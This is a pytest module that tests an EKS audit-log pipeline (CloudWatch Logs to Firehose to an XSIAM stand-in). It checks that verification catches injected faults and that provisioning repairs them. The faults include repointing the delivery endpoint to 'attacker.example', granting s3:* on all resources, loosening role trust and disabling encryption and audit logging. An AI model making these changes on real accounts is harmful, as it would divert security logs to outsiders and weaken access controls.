"""The EKS feed end to end on the local stack: CloudWatch Logs -> Firehose -> the XSIAM stand-in."""

from __future__ import annotations

import json
import time
import uuid
from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from botocore.exceptions import ClientError
from conftest import Stack
from test_verify import artifacts_of, status_of
from test_xsiam_standin import eventually

from flows.provision import provision_feeds
from flows.verify import FIREHOSE_FEED_CHECKS, verify_feeds
from socfeeds.report import Change, Finding, Status
from socfeeds.settings import FirehoseFeed
from tasks.firehose import (
    FilterLimit,
    MissingToken,
    backed_up_records,
    count_delivery,
    ensure_cluster_logging,
    ensure_delivery_stream,
    ensure_subscription,
)

FEED = "eks-control-plane"


def eks(stack: Stack) -> FirehoseFeed:
    return stack.settings.firehose_feeds[FEED]


def provision(stack: Stack, dry_run: bool = False, aws: Any = None) -> list[Change]:
    aws, settings = aws or stack.aws, stack.settings
    return [c for step in (ensure_cluster_logging, ensure_delivery_stream, ensure_subscription)
            for c in step.fn(aws, settings, FEED, dry_run)]


def checks(stack: Stack) -> list[Finding]:
    return [f for check in FIREHOSE_FEED_CHECKS for f in check.fn(stack.aws, stack.settings, FEED)]


def put_audit_event(stack: Stack, marker: str) -> None:
    logs, feed = stack.client("logs"), eks(stack)
    stream = f"kube-apiserver-audit-{uuid.uuid4().hex[:8]}"
    logs.create_log_stream(logGroupName=feed.log_group, logStreamName=stream)
    logs.put_log_events(logGroupName=feed.log_group, logStreamName=stream, logEvents=[
        {"timestamp": int(time.time() * 1000), "message": json.dumps({"kind": "Event", "auditID": marker})}])


def test_a_control_plane_event_reaches_xsiam(stack: Stack) -> None:
    provision(stack)
    assert [f for f in checks(stack) if f.status is Status.FAIL] == []
    marker = uuid.uuid4().hex
    put_audit_event(stack, marker)
    [event] = eventually("event in amazon_eks_raw", lambda: [
        e for e in stack.xsiam.events("amazon_eks_raw") if marker in json.dumps(e["raw"])])
    assert event["source"] == eks(stack).log_group and event["origin"].startswith("kube-apiserver-audit-")
    assert event["raw"]["auditID"] == marker


def test_wrong_token_sends_records_to_the_backup_and_verify_fails(stack: Stack) -> None:
    provision(stack)
    feed = eks(stack)
    stack.client("secretsmanager").put_secret_value(SecretId=feed.token_secret_name,
                                                    SecretString=json.dumps({"api_key": "revoked-token"}))
    marker = uuid.uuid4().hex
    put_audit_event(stack, marker)
    s3 = stack.client("s3")

    def backed_up() -> list[str]:
        keys = [o["Key"] for o in s3.list_objects_v2(Bucket=feed.error_bucket).get("Contents", [])]
        return [k for k in keys if marker.encode() in _decoded(s3.get_object(Bucket=feed.error_bucket, Key=k))]

    [key] = eventually("backup object with the marker", backed_up, deadline_s=30)
    assert key.startswith("http-endpoint-failed/")
    failed = [f for f in checks(stack) if f.check == "failed deliveries"]
    assert [f.status for f in failed] == [Status.FAIL] and key in failed[0].detail
    assert "wrong token" in failed[0].fix
    assert not [e for e in stack.xsiam.events("amazon_eks_raw") if marker in json.dumps(e["raw"])]


def _decoded(obj: dict[str, object]) -> bytes:
    """A backup object: GZIP lines of {rawData: base64(gzip(CloudWatch payload))}."""
    import base64
    import gzip

    body = obj["Body"].read()  # type: ignore[attr-defined]
    text = gzip.decompress(body) if body[:2] == b"\x1f\x8b" else body
    return b"".join(gzip.decompress(base64.b64decode(json.loads(line)["rawData"])) for line in text.splitlines())


def disable_audit_logging(stack: Stack) -> None:
    stack.client("eks").update_cluster_config(name=eks(stack).cluster_name, logging={"clusterLogging": [
        {"types": ["api", "authenticator", "controllerManager", "scheduler"], "enabled": True},
        {"types": ["audit"], "enabled": False}]})


def remove_filter(stack: Stack) -> None:
    feed = eks(stack)
    stack.client("logs").delete_subscription_filter(logGroupName=feed.log_group, filterName=feed.subscription_filter)


def _update_destination(stack: Stack, update: dict[str, object]) -> None:
    firehose, name = stack.client("firehose"), eks(stack).delivery_stream
    stream = firehose.describe_delivery_stream(DeliveryStreamName=name)["DeliveryStreamDescription"]
    firehose.update_destination(DeliveryStreamName=name, CurrentDeliveryStreamVersionId=stream["VersionId"],
                                DestinationId=stream["Destinations"][0]["DestinationId"],
                                HttpEndpointDestinationUpdate=update)


def change_url(stack: Stack) -> None:
    _update_destination(stack, {"EndpointConfiguration": {"Url": "https://attacker.example/logs", "Name": "x"}})


def turn_off_gzip(stack: Stack) -> None:
    _update_destination(stack, {"RequestConfiguration": {"ContentEncoding": "NONE"}})


def widen_firehose_role(stack: Stack) -> None:
    wide = {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "s3:*", "Resource": "*"}]}
    stack.client("iam").put_role_policy(RoleName=eks(stack).firehose_role, PolicyName="debug",
                                        PolicyDocument=json.dumps(wide))


def widen_logs_role_trust(stack: Stack) -> None:
    stack.client("iam").update_assume_role_policy(RoleName=eks(stack).logs_role, PolicyDocument=json.dumps(
        {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Principal": {"Service": "logs.amazonaws.com"},
                                                 "Action": "sts:AssumeRole"}]}))


def stop_stream_encryption(stack: Stack) -> None:
    stack.client("firehose").stop_delivery_stream_encryption(DeliveryStreamName=eks(stack).delivery_stream)


def keep_error_logs_forever(stack: Stack) -> None:
    stack.client("logs").delete_retention_policy(logGroupName=eks(stack).error_log_group)


def drop_source_account_from_firehose_trust(stack: Stack) -> None:
    stack.client("iam").update_assume_role_policy(RoleName=eks(stack).firehose_role, PolicyDocument=json.dumps(
        {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Principal": {"Service": "firehose.amazonaws.com"},
                                                 "Action": "sts:AssumeRole"}]}))


def untag_logs_role_then_widen_its_trust(stack: Stack) -> None:
    """A role socfeeds made before it tagged its roles: known by the description it wrote, so still repaired."""
    stack.client("iam").untag_role(RoleName=eks(stack).logs_role, TagKeys=["socfeeds:managed"])
    widen_logs_role_trust(stack)


FAULTS: list[tuple[Callable[[Stack], None], str, str]] = [
    (disable_audit_logging, "eks:", "control-plane logging"),
    (remove_filter, "logs:", "subscription filter"),
    (change_url, "firehose:", "endpoint url"),
    (turn_off_gzip, "firehose:", "content encoding"),
    (widen_firehose_role, "firehose:", "role {firehose_role} permissions"),
    (widen_logs_role_trust, "logs:", "role {logs_role} trust"),
    (stop_stream_encryption, "firehose:", "encryption at rest"),
    (keep_error_logs_forever, "firehose:", "error log retention"),
    (drop_source_account_from_firehose_trust, "firehose:", "role {firehose_role} trust"),
    (untag_logs_role_then_widen_its_trust, "logs:", "role {logs_role} trust"),
]


@pytest.mark.parametrize(("fault", "resource", "check"), FAULTS, ids=[f.__name__ for f, _, _ in FAULTS])
def test_fault_fails_its_check_and_provision_repairs_it(stack: Stack, fault: Callable[[Stack], None],
                                                        resource: str, check: str) -> None:
    provision(stack)
    check = check.format(firehose_role=eks(stack).firehose_role, logs_role=eks(stack).logs_role)
    fault(stack)
    broken = checks(stack)
    assert status_of(broken, resource, check) is Status.FAIL
    assert all(f.fix for f in broken if f.status is Status.FAIL)
    if fault is widen_firehose_role:  # provision owns only its inline policy; a person removes extras
        stack.client("iam").delete_role_policy(RoleName=eks(stack).firehose_role, PolicyName="debug")
    provision(stack)
    assert [f for f in checks(stack) if f.status is Status.FAIL] == []


def test_missing_token_secret_fails_verify_and_stops_provision_with_the_fix(stack: Stack) -> None:
    provision(stack)
    feed = eks(stack)
    secrets = stack.client("secretsmanager")
    secrets.delete_secret(SecretId=feed.token_secret_name, ForceDeleteWithoutRecovery=True)
    assert status_of(checks(stack), "firehose:", "endpoint token") is Status.FAIL
    with pytest.raises(MissingToken, match=f"secret {feed.token_secret_name} does not exist. Fix: store"):
        ensure_delivery_stream.fn(stack.aws, stack.settings, FEED, False)
    stack.local.put_token_secret(feed.token_secret_name, stack.xsiam.firehose_token)
    provision(stack)
    assert [f for f in checks(stack) if f.status is Status.FAIL] == []


def test_provision_names_what_a_failed_step_held_up_and_carries_its_fix(stack: Stack) -> None:
    """The stream cannot be made without its token, so the subscription waiting on it is reported as skipped."""
    feed = eks(stack)
    stack.client("secretsmanager").delete_secret(SecretId=feed.token_secret_name, ForceDeleteWithoutRecovery=True)
    state = provision_feeds(feeds=[FEED], return_state=True)
    assert state.is_failed() and state.message is not None and "\n" not in state.message
    assert (f"provision-feeds: 2 of 6 steps did not finish: ensure-delivery-stream[{FEED}] failed: "
            f"secret {feed.token_secret_name} does not exist. Fix: store") in state.message
    assert f"ensure-subscription[{FEED}] skipped: it waits on ensure-delivery-stream[{FEED}], which did not finish" in (
        state.message)
    artifacts = artifacts_of(state)
    assert {"provision-feeds", "provision-feeds-failures"} <= set(artifacts), "published whatever failed"
    record = artifacts["provision-feeds-failures"].data
    assert isinstance(record, str)
    assert record.index("| failed |") < record.index("| skipped |"), "the cause before what it held up"
    stack.local.put_token_secret(feed.token_secret_name, stack.xsiam.firehose_token)
    assert provision_feeds(feeds=[FEED], return_state=True).is_completed(), "a rerun after the fix converges"


def test_buffering_change_updates_the_stream_in_place(stack: Stack) -> None:
    provision(stack)
    firehose, name = stack.client("firehose"), eks(stack).delivery_stream
    before = firehose.describe_delivery_stream(DeliveryStreamName=name)["DeliveryStreamDescription"]
    stack.update(firehose_feeds={FEED: {**stack.values["firehose_feeds"][FEED], "buffering_mib": 5}})
    changes = ensure_delivery_stream.fn(stack.aws, stack.settings, FEED, False)
    assert [(c.action, c.detail) for c in changes] == [("update delivery stream", "in place: BufferingHints")]
    after = firehose.describe_delivery_stream(DeliveryStreamName=name)["DeliveryStreamDescription"]
    assert after["CreateTimestamp"] == before["CreateTimestamp"] and int(after["VersionId"]) == int(
        before["VersionId"]) + 1
    hints = after["Destinations"][0]["HttpEndpointDestinationDescription"]["BufferingHints"]
    assert hints == {"SizeInMBs": 5, "IntervalInSeconds": 60}
    assert ensure_delivery_stream.fn(stack.aws, stack.settings, FEED, False) == []


def test_the_token_never_leaves_the_secret(stack: Stack, prefect_logs: pytest.LogCaptureFixture) -> None:
    token = stack.xsiam.firehose_token
    changes = provision_feeds(feeds=[FEED])
    findings = verify_feeds(feeds=[FEED])
    state = verify_feeds(feeds=[FEED], return_state=True)
    from prefect.client.orchestration import get_client

    with get_client(sync_client=True) as client:
        artifacts = [a.data for a in client.read_artifacts()]
        flow_runs = client.read_flow_runs()
    texts = [prefect_logs.text, repr(changes), repr(findings), json.dumps(artifacts, default=str),
             repr(state), json.dumps([r.parameters for r in flow_runs], default=str)]
    assert changes and findings and all(token not in text for text in texts)
    assert "api_key" in prefect_logs.text or any("api_key" in f.detail for f in findings)


# --- the platform's estate: adopted by function, never duplicated ------------------------------

@dataclass(frozen=True)
class Platform:
    """The platform's own EKS feed (its Terraform): stream, filter, roles and bucket under names socfeeds does not
    declare, delivering the cluster log group to the same XSIAM URL."""

    stream: str
    filter: str
    firehose_role: str
    logs_role: str
    bucket: str


def _role(stack: Stack, name: str, service: str, condition: dict[str, Any], statements: list[dict[str, Any]]) -> str:
    iam = stack.client("iam")
    trust = {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Principal": {"Service": service},
                                                     "Action": "sts:AssumeRole", "Condition": condition}]}
    arn = str(iam.create_role(RoleName=name, AssumeRolePolicyDocument=json.dumps(trust))["Role"]["Arn"])
    iam.put_role_policy(RoleName=name, PolicyName="terraform", PolicyDocument=json.dumps(
        {"Version": "2012-10-17", "Statement": statements}))
    return arn


def platform_estate(stack: Stack, url: str | None = None, grant_secret: bool = True) -> Platform:
    """Built as the platform's Terraform has it: 5 MiB buffering, no stream encryption, Firehose's role trusting
    the external id only (no aws:SourceAccount), grants written with log-group wildcards."""
    feed, settings = eks(stack), stack.settings
    account, region, hexid = settings.account_id, settings.region, uuid.uuid4().hex[:8]
    name = f"cloudwatch-export-{hexid}"
    platform = Platform(name, f"firehose-delivery-{feed.log_group}-{hexid}", f"{name}-firehose", f"{name}-logs",
                        f"cp-firehose-errors-{hexid}-platform")
    logs, firehose = stack.client("logs"), stack.client("firehose")
    if not logs.describe_log_groups(logGroupNamePrefix=feed.log_group)["logGroups"]:
        logs.create_log_group(logGroupName=feed.log_group)
    error_group = f"/aws/kinesisfirehose/{name}"
    logs.create_log_group(logGroupName=error_group)
    logs.create_log_stream(logGroupName=error_group, logStreamName="DestinationDelivery")
    stack.client("s3").create_bucket(Bucket=platform.bucket,
                                     CreateBucketConfiguration={"LocationConstraint": region})
    secret = stack.client("secretsmanager").describe_secret(SecretId=feed.token_secret_name)["ARN"]
    bucket_arn = f"arn:aws:s3:::{platform.bucket}"
    s3_actions = ["s3:AbortMultipartUpload", "s3:GetBucketLocation", "s3:GetObject", "s3:ListBucket",
                  "s3:ListBucketMultipartUploads", "s3:PutObject"]
    grants: list[dict[str, Any]] = [
        {"Effect": "Allow", "Action": s3_actions, "Resource": [bucket_arn, f"{bucket_arn}/*"]},
        {"Effect": "Allow", "Action": "logs:PutLogEvents",
         "Resource": f"arn:aws:logs:{region}:{account}:log-group:{error_group}:*"}]
    if grant_secret:
        grants.append({"Effect": "Allow", "Action": "secretsmanager:GetSecretValue", "Resource": secret})
    firehose_role = _role(stack, platform.firehose_role, "firehose.amazonaws.com",
                          {"StringEquals": {"sts:ExternalId": account}}, grants)
    stream_arn = f"arn:aws:firehose:{region}:{account}:deliverystream/{name}"
    logs_role = _role(stack, platform.logs_role, f"logs.{region}.amazonaws.com",
                      {"StringLike": {"aws:SourceArn": f"arn:aws:logs:{region}:{account}:*"}},
                      [{"Effect": "Allow", "Action": ["firehose:PutRecord", "firehose:PutRecordBatch"],
                        "Resource": stream_arn}])
    url = url or stack.xsiam.firehose_url
    firehose.create_delivery_stream(DeliveryStreamName=name, DeliveryStreamType="DirectPut",
                                    HttpEndpointDestinationConfiguration={
        "EndpointConfiguration": {"Url": url, "Name": url}, "RoleARN": firehose_role,
        "BufferingHints": {"SizeInMBs": 5, "IntervalInSeconds": 60},
        "CloudWatchLoggingOptions": {"Enabled": True, "LogGroupName": error_group,
                                     "LogStreamName": "DestinationDelivery"},
        "RequestConfiguration": {"ContentEncoding": "GZIP"}, "RetryOptions": {"DurationInSeconds": 300},
        "S3BackupMode": "FailedDataOnly",
        "SecretsManagerConfiguration": {"SecretARN": secret, "RoleARN": firehose_role, "Enabled": True},
        "S3Configuration": {"RoleARN": firehose_role, "BucketARN": bucket_arn, "CompressionFormat": "GZIP",
                            "BufferingHints": {"SizeInMBs": 10, "IntervalInSeconds": 400}}})
    logs.put_subscription_filter(logGroupName=feed.log_group, filterName=platform.filter, filterPattern="",
                                 destinationArn=stream_arn, roleArn=logs_role)
    return platform


def role_state(stack: Stack, name: str) -> str:
    """Everything a rewrite could touch: trust, description, tags, inline and attached policies, as IAM returns them."""
    iam = stack.client("iam")
    role = iam.get_role(RoleName=name)["Role"]
    inline = {p: iam.get_role_policy(RoleName=name, PolicyName=p)["PolicyDocument"]
              for p in iam.list_role_policies(RoleName=name)["PolicyNames"]}
    return json.dumps([role["AssumeRolePolicyDocument"], role.get("Description"), role.get("Tags"), inline,
                       iam.list_attached_role_policies(RoleName=name)["AttachedPolicies"]])


def role_exists(stack: Stack, name: str) -> bool:
    try:
        stack.client("iam").get_role(RoleName=name)
    except ClientError as error:
        assert error.response["Error"]["Code"] == "NoSuchEntity"
        return False
    return True


def filters_on_group(stack: Stack) -> list[dict[str, Any]]:
    answer = stack.client("logs").describe_subscription_filters(logGroupName=eks(stack).log_group)
    return [{k: f.get(k) for k in ("filterName", "destinationArn", "roleArn", "filterPattern")}
            for f in answer["subscriptionFilters"]]


def delivered(stack: Stack, marker: str) -> list[dict[str, Any]]:
    return [e for e in stack.xsiam.events("amazon_eks_raw") if marker in json.dumps(e["raw"])]


def test_the_platforms_stream_and_filter_are_adopted_and_every_event_arrives_once(stack: Stack) -> None:
    platform = platform_estate(stack)
    feed = eks(stack)
    roles = {name: role_state(stack, name) for name in (platform.firehose_role, platform.logs_role)}
    before = count_delivery(stack.aws, stack.settings, FEED)
    assert before == {"streams": 1, "subscription_filters": 1}

    changes = provision(stack)
    assert count_delivery(stack.aws, stack.settings, FEED) == before  # no second stream, no second filter
    assert [f["filterName"] for f in filters_on_group(stack)] == [platform.filter]
    assert not role_exists(stack, feed.firehose_role) and not role_exists(stack, feed.logs_role)
    with pytest.raises(ClientError, match="ResourceNotFoundException"):
        stack.client("firehose").describe_delivery_stream(DeliveryStreamName=feed.delivery_stream)
    on_stream = [(c.resource, c.action, c.detail.split(": ", 1)[0]) for c in changes
                 if c.resource.startswith("firehose")]
    adopted = (f"adopted {platform.stream} (it delivers {feed.log_group} to the XSIAM URL already; "
               f"{feed.delivery_stream} not created)")
    assert on_stream == [(f"firehose:{platform.stream}", "update delivery stream", adopted),
                         (f"firehose:{platform.stream}", "encrypt delivery stream", adopted)]
    assert changes[-2].detail.endswith("in place: BufferingHints")  # converged in place, under its own name
    assert [c for c in changes if c.resource.startswith("logs:")] == []

    findings = checks(stack)
    assert [(f.resource, f.check, f.status) for f in findings if f.status is not Status.PASS] == [
        (f"firehose:{platform.stream}", f"role {platform.firehose_role} trust", Status.WARN)]
    [trust] = [f for f in findings if f.status is Status.WARN]
    assert "without aws:SourceAccount = " in trust.detail and "never rewrites a role it did not create" in trust.fix
    details = {f.check: f.detail for f in findings}
    assert details["stream exists"] == f"{platform.stream} (adopted, delivers to the XSIAM URL)"
    assert details["subscription filter"] == f"{platform.filter} (adopted) sends every event to {platform.stream}"

    marker = uuid.uuid4().hex
    put_audit_event(stack, marker)
    eventually("event in amazon_eks_raw", lambda: delivered(stack, marker))
    time.sleep(1)  # a second path delivers within milliseconds locally (no buffering): give it time to show
    assert len(delivered(stack, marker)) == 1

    assert provision(stack) == []
    assert {name: role_state(stack, name) for name in roles} == roles  # never rewritten, byte for byte


def test_a_dry_run_against_the_platforms_estate_makes_no_write(stack: Stack) -> None:
    platform = platform_estate(stack)
    aws, calls = stack.aws, []
    for service in ("eks", "logs", "firehose", "iam", "secretsmanager", "s3", "ssm"):
        aws.client(service).meta.events.register("before-call", lambda model, **_: calls.append(model.name))
    firehose = stack.client("firehose")
    stream = firehose.describe_delivery_stream(DeliveryStreamName=platform.stream)["DeliveryStreamDescription"]

    planned = provision(stack, dry_run=True, aws=aws)
    assert planned and not any(c.applied for c in planned)
    assert {c.action for c in planned if c.resource == f"firehose:{platform.stream}"} == {
        "update delivery stream", "encrypt delivery stream"}
    writes = [c for c in calls if not c.startswith(("Describe", "Get", "List", "Head"))]
    assert calls and writes == []
    assert firehose.describe_delivery_stream(DeliveryStreamName=platform.stream)["DeliveryStreamDescription"] == stream
    assert [f["filterName"] for f in filters_on_group(stack)] == [platform.filter]
    assert [(c.resource, c.action) for c in provision(stack)] == [(c.resource, c.action) for c in planned]


def test_two_paths_already_delivering_are_reported_and_no_third_is_added(stack: Stack) -> None:
    kept, other = sorted((platform_estate(stack), platform_estate(stack)), key=lambda p: p.stream)
    before = count_delivery(stack.aws, stack.settings, FEED)
    assert before == {"streams": 2, "subscription_filters": 2}

    changes = provision(stack)
    assert count_delivery(stack.aws, stack.settings, FEED) == before
    assert {c.resource for c in changes if c.resource.startswith("firehose:")} == {f"firehose:{kept.stream}"}
    findings = checks(stack)
    assert [(f.resource, f.check) for f in findings if f.status is Status.FAIL] == [
        (f"logs:{eks(stack).log_group}", "duplicate delivery")]
    [duplicate] = [f for f in findings if f.check == "duplicate delivery"]
    assert duplicate.detail == (f"filter {other.filter} feeds {other.stream}, which delivers to the XSIAM URL too: "
                                "every event reaches XSIAM 2 times")
    assert f"keep {kept.filter} -> {kept.stream}" in duplicate.fix
    assert f"--log-group-name {eks(stack).log_group} --filter-name {other.filter}" in duplicate.fix
    assert next(f.detail for f in findings if f.check == "stream exists") == (
        f"{kept.stream} (adopted, delivers to the XSIAM URL); {other.stream} also delivers this log group to the "
        "XSIAM URL (duplicate)")
    assert provision(stack) == []


def test_a_log_group_with_two_other_filters_fails_with_the_fix(stack: Stack) -> None:
    """CloudWatch allows two filters a group: when both go elsewhere, say so instead of LimitExceededException."""
    others = [platform_estate(stack, url="http://127.0.0.1:9/another-siem") for _ in range(2)]
    with pytest.raises(FilterLimit, match=f"already has 2 subscription filters .*{others[0].filter}.* Fix: remove "
                       "the one no longer needed with `aws logs delete-subscription-filter"):
        provision(stack)
    [finding] = [f for f in checks(stack) if f.check == "subscription filter"]
    assert finding.status is Status.FAIL and all(o.filter in finding.detail for o in others)
    assert "delete-subscription-filter" in finding.fix
    assert sorted(f["filterName"] for f in filters_on_group(stack)) == sorted(o.filter for o in others)


def test_a_gap_in_the_platforms_role_is_reported_with_the_fix_and_never_filled(stack: Stack) -> None:
    platform = platform_estate(stack, grant_secret=False)
    before = role_state(stack, platform.firehose_role)
    provision(stack)
    assert role_state(stack, platform.firehose_role) == before
    secret = stack.client("secretsmanager").describe_secret(SecretId=eks(stack).token_secret_name)["ARN"]
    failing = [f for f in checks(stack) if f.status is Status.FAIL]
    assert [(f.resource, f.check) for f in failing] == [
        (f"firehose:{platform.stream}", f"role {platform.firehose_role} permissions")]
    assert failing[0].detail == (f"missing secretsmanager:GetSecretValue on {secret}: stream {platform.stream} "
                                 "fails without it")
    assert failing[0].fix.startswith(f"grant secretsmanager:GetSecretValue on {secret} to role "
                                     f"{platform.firehose_role} where that role is managed")


def test_failed_deliveries_are_found_in_the_adopted_streams_own_backup_bucket(stack: Stack) -> None:
    """The canary and verify look where the adopted stream puts failed records, not in the declared error bucket."""
    platform = platform_estate(stack)
    provision(stack)
    feed = eks(stack)
    stack.client("secretsmanager").put_secret_value(SecretId=feed.token_secret_name,
                                                    SecretString=json.dumps({"api_key": "revoked-token"}))
    since, read, marker = datetime.now(UTC) - timedelta(seconds=5), set[str](), uuid.uuid4().hex
    put_audit_event(stack, marker)
    [(key, message)] = eventually("the marker in the platform's backup bucket", lambda: [
        (k, m) for k, m, payload in backed_up_records(stack.aws, feed, since, read) if marker in payload], 30)
    assert key.startswith(f"s3://{platform.bucket}/http-endpoint-failed/") and "403" in message
    failed = [f for f in checks(stack) if f.check == "failed deliveries"]
    assert [(f.resource, f.status) for f in failed] == [(f"s3://{platform.bucket}", Status.FAIL)]
    assert key.removeprefix(f"s3://{platform.bucket}/") in failed[0].detail
    assert f"/aws/kinesisfirehose/{platform.stream} log group" in failed[0].fix
